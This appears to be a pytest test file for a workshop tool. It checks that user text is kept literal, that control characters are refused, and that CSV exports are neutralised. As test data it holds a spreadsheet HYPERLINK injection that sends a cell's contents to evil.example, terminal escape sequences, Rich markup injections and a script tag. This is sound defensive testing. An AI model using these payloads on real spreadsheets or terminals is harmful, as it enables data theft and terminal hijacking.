"""What people type is data: never markup, never terminal control, never a formula.

The rules of FORMAT.md on text (no control character but newline and tab, CRLF and CR
stored as LF), the number ranges, the display helpers, the CSV neutraliser, and the
command line's output for hostile and legacy (escape-holding) sessions.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from tests.hostile import CONTROL, ESCAPE_BYTES, LONG_WORD, MARKUP, STORABLE
from tpworkshop.cli.main import CliError, participant_name
from tpworkshop.domain.display import plain, plain_line
from tpworkshop.domain.model import RULES, clean
from tpworkshop.domain.text import json_text, visible, visible_line, without_controls
from tpworkshop.domain.validation import ValidationError
from tpworkshop.formats.reports.csv_report import spreadsheet_cell
from tpworkshop.storage import Store

MULTI_LINE = {
    ("session", "notes"),
    ("segment", "description"),
    *(("touchpoint", f) for f in ("need", "desired_outcome", "optimal_experience", "pain_note")),
}
TEXT_FIELDS = [
    (entity, field)
    for entity, rules in RULES.items()
    for field in rules
    if (entity, field) in MULTI_LINE
    or field
    in ("name", "organisation", "facilitator", "channel", "owner", "title", "reason", "by", "ref")
]
LIST_FIELDS = [
    ("session", "participants"),
    *(
        ("touchpoint", f)
        for f in ("interactions", "processes", "people", "customer_contacts", "data_generated")
    ),
]
NUMBERS = {
    ("stage", "weight"): (1, 5),
    ("touchpoint", "effectiveness"): (1, 5),
    ("touchpoint", "importance"): (1, 5),
    ("touchpoint", "votes"): (0, 10_000),
    ("session", "dots_per_participant"): (0, 20),
}


# --- validation: the rules of FORMAT.md ------------------------------------------------------


@pytest.mark.parametrize(("entity", "field"), TEXT_FIELDS)
@pytest.mark.parametrize("text", STORABLE)
def test_hostile_text_is_kept_as_typed(entity: str, field: str, text: str) -> None:
    assert clean(entity, field, text) == text.strip() if (entity, field) not in MULTI_LINE else text


@pytest.mark.parametrize(("entity", "field"), TEXT_FIELDS + LIST_FIELDS)
@pytest.mark.parametrize("text", CONTROL)
def test_control_characters_are_refused_in_every_field(entity: str, field: str, text: str) -> None:
    value = [text] if (entity, field) in LIST_FIELDS else f"x{text}y"
    with pytest.raises(ValidationError) as caught:
        clean(entity, field, value)
    assert "control" in caught.value.message("en")
    assert "control" in caught.value.message("es")


@pytest.mark.parametrize(("entity", "field"), TEXT_FIELDS)
def test_a_ten_thousand_character_word_is_refused_with_one_sentence(
    entity: str, field: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        clean(entity, field, LONG_WORD)
    assert caught.value.message("en").count(".") >= 1
    assert "10000" in caught.value.message("en")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_single_line_text_is_either_refused_or_free_of_control(text: str) -> None:
    try:
        cleaned = clean("touchpoint", "name", text)
    except ValidationError as error:
        assert error.field == "name"
        return
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in cleaned)
    assert cleaned == text.strip()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_multi_line_text_is_either_refused_or_only_newlines_and_tabs(text: str) -> None:
    try:
        cleaned = clean("touchpoint", "need", text)
    except ValidationError as error:
        assert error.field == "need"
        assert ESCAPE_BYTES.search(text.replace("\r", "\n"))
        return
    assert not ESCAPE_BYTES.search(cleaned)
    assert "\r" not in cleaned
    assert cleaned == text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize(("entity", "field"), list(NUMBERS))
@settings(max_examples=100, deadline=None)
@given(number=st.integers() | st.integers(-(10**40), 10**40))
def test_every_number_has_its_range(entity: str, field: str, number: int) -> None:
    low, high = NUMBERS[(entity, field)]
    try:
        value = clean(entity, field, number)
    except ValidationError as error:
        assert not low <= number <= high
        sentence = error.message("en")
        assert (
            sentence.startswith(error.message("en").split(" ")[0])
            and f"{low} and {high}" in sentence
        )
        assert sentence.count("\n") == 0 and len(sentence) < 120
        return
    assert low <= value <= high == NUMBERS[(entity, field)][1]


@pytest.mark.parametrize("number", [99999999999999999999, 9223372036854775807, -1, None])
def test_huge_votes_get_one_sentence_naming_the_field(number: int | None) -> None:
    number = 10**5000 if number is None else number  # (too long for a test id)
    with pytest.raises(ValidationError) as caught:
        clean("touchpoint", "votes", number)
    assert caught.value.message("en").startswith("Votes must be between 0 and 10000")
    assert caught.value.message("es").startswith("El número de votos debe estar entre 0 y 10000")


@pytest.mark.parametrize("typed", ["99999999999999999999", "9" * 2000, "1e3", "3.0", "٣"])
def test_typed_numbers_never_overflow(typed: str) -> None:
    with pytest.raises(ValidationError):
        clean("stage", "weight", typed)


def test_votes_cannot_be_pushed_past_the_range_in_the_store(db_path: Path) -> None:
    with Store(db_path) as store:
        sid = store.create_session("Votes")
        segment = store.add_segment(sid, "Families")
        stage = store.load(sid).stages[0].key
        tp = store.add_touchpoint(sid, segment, stage, "Ad")
        store.update_touchpoint(tp.db_id, votes=9_999)
        assert store.add_votes(tp.db_id, 1) == 10_000
        with pytest.raises(ValidationError):
            store.add_votes(tp.db_id, 1)
        with pytest.raises(ValidationError):
            store.add_votes(tp.db_id, 9223372036854775807)
        assert store.load(sid).touchpoints[0].votes == 10_000


# --- showing text ------------------------------------------------------------------------------


def test_visible_shows_control_characters_as_symbols() -> None:
    assert visible("\x1b]0;PWNED\x07") == "␛]0;PWNED␇"
    assert visible("a\x00b\x7fc\x9bd") == "a␀b␡c\ufffdd"
    assert visible("keeps\nnewlines\tand tabs") == "keeps\nnewlines\tand tabs"
    assert visible_line("one\nline\ttoo\x1b") == "one line too␛"
    assert visible("[b]x[/b]") == "[b]x[/b]"


@given(st.text())
def test_visible_never_leaves_a_control_character(text: str) -> None:
    assert not ESCAPE_BYTES.search(visible(text))
    assert not ESCAPE_BYTES.search(visible_line(text)) and "\n" not in visible_line(text)
    if not ESCAPE_BYTES.search(text):
        assert visible(text) == text


def test_pasted_text_loses_its_control_characters() -> None:
    assert without_controls("Ana\x1b[31m\r\nLuis\r") == ("Ana[31m\nLuis\n", True)
    assert without_controls("plain\r\ntext") == ("plain\ntext", False)


@pytest.mark.parametrize("text", MARKUP)
def test_rich_text_from_user_text_is_never_markup(text: str) -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=200, color_system="truecolor")
    console.print(plain(text))
    console.print(plain_line(text + "\n" + CONTROL[0]))
    printed = out.getvalue()
    assert text in printed
    assert "\x1b]8;" not in printed  # no terminal hyperlink
    assert "\x1b]0;" not in printed and "\x07" not in printed


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"x")',
        ),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("\tindent", "'\tindent"),
        ("\rreturn", "'␍return"),
        ("plain = text", "plain = text"),
        ("", ""),
        ("x\x1b[2J", "x␛[2J"),
    ],
)
def test_spreadsheet_cells_are_neutralised(typed: str, written: str) -> None:
    assert spreadsheet_cell(typed) == written


def test_json_keeps_the_text_and_escapes_every_control() -> None:
    value = {"name": "ñ 😀 [b]\x1b\x85\x7f"}
    text = json_text(value)
    assert not ESCAPE_BYTES.search(text)
    assert json.loads(text) == value


def test_names_over_ssh_with_control_characters_are_refused() -> None:
    with pytest.raises(CliError) as caught:
        participant_name(None, {"SSH_ORIGINAL_COMMAND": "Eve\x1b]0;x\x07"}, "en")
    assert "control characters" in str(caught.value)
    with pytest.raises(CliError) as caught:
        participant_name("Ana\tB", {}, "es")
    assert "caracteres de control" in str(caught.value)
    assert participant_name(None, {"SSH_ORIGINAL_COMMAND": "  Eve[/b]  "}) == "Eve[/b]"
    assert participant_name(None, {"SSH_ORIGINAL_COMMAND": "x" * 99}) == "x" * 40
    assert participant_name(None, {"USER": "ana"}) == "ana"


# --- the command line --------------------------------------------------------------------------


def tpw(*args: str, db: Path, tty: bool = False) -> tuple[int, str, str]:
    """Run the CLI; with ``tty`` its standard output is a terminal (a pty), where rich
    would write colours and hyperlinks."""
    env = {**os.environ, "TPWORKSHOP_DB": str(db), "LANG": "C.UTF-8", "COLUMNS": "200"}
    env.pop("LC_ALL", None)
    command = [sys.executable, "-m", "tpworkshop", *args]
    if not tty:
        done = subprocess.run(command, capture_output=True, text=True, env=env, timeout=60)
        return done.returncode, done.stdout, done.stderr
    import pty

    leader, follower = pty.openpty()
    with subprocess.Popen(
        command, stdout=follower, stderr=subprocess.PIPE, env=env, text=True
    ) as process:
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            chunks.append(chunk)
        stderr = process.stderr.read() if process.stderr else ""
        process.wait(timeout=60)
    os.close(leader)
    return process.returncode, b"".join(chunks).decode("utf-8", "replace"), stderr


@pytest.fixture
def hostile_db(db_path: Path) -> Path:
    with Store(db_path) as store:
        for n, name in enumerate(MARKUP):
            sid = store.create_session(f"{name} {n}", organisation=name, facilitator=name)
        segment = store.add_segment(sid, "Empresas [/b]", "[@click=app.quit]See details[/]")
        stage = store.load(sid).stages[0].key
        for text in STORABLE:
            tp = store.add_touchpoint(sid, segment, stage, text, channel=text)
            store.update_touchpoint(tp.db_id, owner=text, need=text, pain_note=text)
    return db_path


def test_list_shows_markup_names_literally(hostile_db: Path) -> None:
    for tty in (False, True):
        code, out, err = tpw("list", db=hostile_db, tty=tty)
        assert code == 0, err
        for n, name in enumerate(MARKUP):
            assert f"{name} {n}"[:20] in out, (tty, name)
        assert "\x1b]8;" not in out  # no hyperlink in a terminal either
        assert "Traceback" not in err


def test_gaps_and_every_export_show_hostile_text_as_typed(hostile_db: Path, tmp_path: Path) -> None:
    session = f"{MARKUP[-1]} {len(MARKUP) - 1}"
    for fmt in ("text", "markdown", "json"):
        code, out, err = tpw("gaps", session, "--format", fmt, db=hostile_db)
        assert code == 0, err
        assert (
            "Empresas [/b]" in out
            or "Empresas \\[/b\\]" in out
            or "Empresas [/b]" in json.dumps(out)
        )
    files_before = sorted(tmp_path.iterdir())
    for fmt in ("toml", "json", "markdown", "csv", "svg", "html"):
        code, out, err = tpw("export", session, "--format", fmt, db=hostile_db)
        assert code == 0, err
        assert not ESCAPE_BYTES.search(out.replace("\r\n", "\n")), fmt
    assert sorted(tmp_path.iterdir()) == files_before
    code, out, _ = tpw("export", session, "--format", "csv", db=hostile_db)
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = [row[rows[0].index("Name")] for row in rows[1:]]  # an English session
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"x")' in names


@pytest.fixture
def legacy_db(db_path: Path) -> Path:
    """Escape sequences written into the file by an older version (raw SQL)."""
    with Store(db_path) as store:
        sid = store.create_session("Legacy")
        segment = store.add_segment(sid, "Families")
        stage = store.load(sid).stages[0].key
        tp = store.add_touchpoint(sid, segment, stage, "Ad")
        store.add_action(sid, "Call", touchpoint=tp.ref, owner="Ana")
    payload = "".join(CONTROL)
    with sqlite3.connect(db_path) as conn:
        conn.execute(
            "UPDATE sessions SET name = ?, organisation = ?, notes = ?",
            ("Legacy" + CONTROL[0], payload, payload),
        )
        conn.execute("UPDATE segments SET name = ?, description = ?", ("Fam" + CONTROL[2], payload))
        conn.execute("UPDATE stages SET name = name || ?", (CONTROL[3],))
        conn.execute(
            "UPDATE touchpoints SET name = ?, channel = ?, owner = ?, need = ?, pain_note = ?",
            ("Ad" + CONTROL[1], CONTROL[4], CONTROL[5], payload, payload),
        )
        conn.execute("UPDATE actions SET title = ?, owner = ?", ("Call" + CONTROL[6], CONTROL[7]))
    return db_path


def test_a_legacy_database_never_sends_an_escape_to_the_terminal(legacy_db: Path) -> None:
    in_terminal = [
        tpw("list", db=legacy_db, tty=True),
        tpw("gaps", "Legacy", db=legacy_db, tty=True),
    ]
    piped = [tpw("list", "--format", "json", db=legacy_db)]
    piped += [
        tpw("gaps", "Legacy", "--format", fmt, db=legacy_db) for fmt in ("text", "markdown", "json")
    ]
    piped += [
        tpw("export", "Legacy", "--format", fmt, db=legacy_db)
        for fmt in ("toml", "json", "markdown", "csv", "svg", "html")
    ]
    refused = tpw("open", "Legacy\x1b]0;x\x07", db=legacy_db)  # an error quoting the argument
    for _code, out, err in [*in_terminal, *piped, refused]:
        assert "Traceback" not in err
        assert "\x1b]" not in out and "\x07" not in out and "\x9b" not in out
        assert not ESCAPE_BYTES.search(err)
    for code, out, err in piped:  # not a terminal: no escape byte at all
        assert code == 0, err
        assert not ESCAPE_BYTES.search(out.replace("\r\n", "\n")), out[:200]
    assert "Legacy␛]0;PWNED␇" in in_terminal[0][1]


def test_every_export_keeps_hostile_text_as_typed(hostile_db: Path, tmp_path: Path) -> None:
    """TOML and JSON hold the very text; Markdown escapes only what Markdown would read;
    HTML and SVG escape what a browser would read (no tag, no link); ``-o`` writes that one
    file; the TOML imports back to the same texts, and ``gaps`` reads it back literally."""
    session = f"{MARKUP[-1]} {len(MARKUP) - 1}"
    reason, by = "[@click=app.quit]ok[/] =SUM(1) <b>", "Eve[/b]"
    with Store(hostile_db) as store:
        sid = store.resolve(session)
        first = store.load(sid).in_map_order()[0].ref
        store.accept_finding(sid, "no-data", reason, touchpoint=first, by=by)
        stored = store.load(sid)
    names = [tp.name for tp in stored.in_map_order()]
    assert set(STORABLE) <= set(names)

    code, out, err = tpw("export", session, "--format", "toml", db=hostile_db)
    assert code == 0, err
    exported = tomllib.loads(out)
    assert [tp["name"] for tp in exported["touchpoints"]] == names
    assert exported["segments"][0]["description"] == "[@click=app.quit]See details[/]"
    assert (exported["accepted"][0]["reason"], exported["accepted"][0]["by"]) == (reason, by)
    code, out, err = tpw("export", session, "--format", "json", db=hostile_db)
    assert code == 0, err
    assert [tp["name"] for tp in json.loads(out)["touchpoints"]] == names

    code, out, err = tpw("export", session, "--format", "markdown", db=hostile_db)
    assert code == 0, err
    for name in MARKUP[:-1]:
        assert name.replace("[", "\\[").replace("]", "\\]") in out, name
    assert "<script>" not in out and "&lt;script>alert(1)&lt;/script> &amp;amp;" in out
    for fmt in ("html", "svg"):
        code, out, err = tpw("export", session, "--format", fmt, db=hostile_db)
        assert code == 0, err
        assert "<script" not in out and "href=" not in out and "<a " not in out, fmt
        assert "Empresas" in out and "[/b]" in out, fmt  # the segment's name, as typed

    target = tmp_path / "out" / "hostile.toml"
    target.parent.mkdir()
    code, _, err = tpw("export", session, "--format", "toml", "-o", str(target), db=hostile_db)
    assert code == 0, err
    assert sorted(p.name for p in target.parent.iterdir()) == ["hostile.toml"]

    fresh = tmp_path / "fresh" / "tpworkshop.db"
    code, _, err = tpw("import", str(target), db=fresh)
    assert code == 0, err
    with Store(fresh) as store:
        (summary,) = store.list_sessions()
        again = store.load(summary.id)
    assert summary.name == session
    assert [tp.name for tp in again.in_map_order()] == names
    assert [tp.pain_note for tp in again.in_map_order()] == [
        tp.pain_note for tp in stored.in_map_order()
    ]
    assert [(a.reason, a.by) for a in again.accepted] == [(reason, by)]

    for tty in (False, True):
        code, out, err = tpw("gaps", str(target), "--all", db=fresh, tty=tty)
        assert code == 0, err
        flat = " ".join(out.split())  # a terminal's output is wrapped to its width
        assert "Empresas [/b]" in flat and "Eve[/b]" in flat and "[b]unclosed" in flat, out
        assert "\x1b]8;" not in out and "\x1b]0;" not in out and "\x07" not in out
    code, out, _ = tpw("gaps", str(target), db=fresh)
    assert not ESCAPE_BYTES.search(out)


def test_a_session_named_with_broken_markup_on_the_command_line(db_path: Path) -> None:
    """``tpworkshop new 'Broken [/bold] markup'`` broke ``list`` for every session."""
    for name in ("Broken [/bold] markup", "[link=https://evil.example]x[/link]"):
        code, out, err = tpw("new", name, "--no-open", db=db_path)
        assert code == 0, err
        assert name in out
    for tty in (False, True):
        code, out, err = tpw("list", db=db_path, tty=tty)
        assert code == 0 and "Traceback" not in err, err
        assert "Broken [/bold] markup" in out and "[link=https://evil.example]x[/link]" in out
        assert "\x1b]8;" not in out


def test_history_shows_hostile_names_as_typed(hostile_db: Path) -> None:
    """``tpworkshop history``: who changed what, with names and values as typed, in a
    terminal too (no hyperlink, no markup read)."""
    session = f"{MARKUP[-1]} {len(MARKUP) - 1}"
    for tty in (False, True):
        code, out, err = tpw("history", session, db=hostile_db, tty=tty)
        assert code == 0 and "Traceback" not in err, err
        flat = " ".join(out.split())
        for name in ("Empresas [/b]", "[link=https://evil.example]x[/link]", "Eve[/b]"):
            assert f"'{name}'" in flat, (tty, name)
        assert "\x1b]8;" not in out and "\x07" not in out
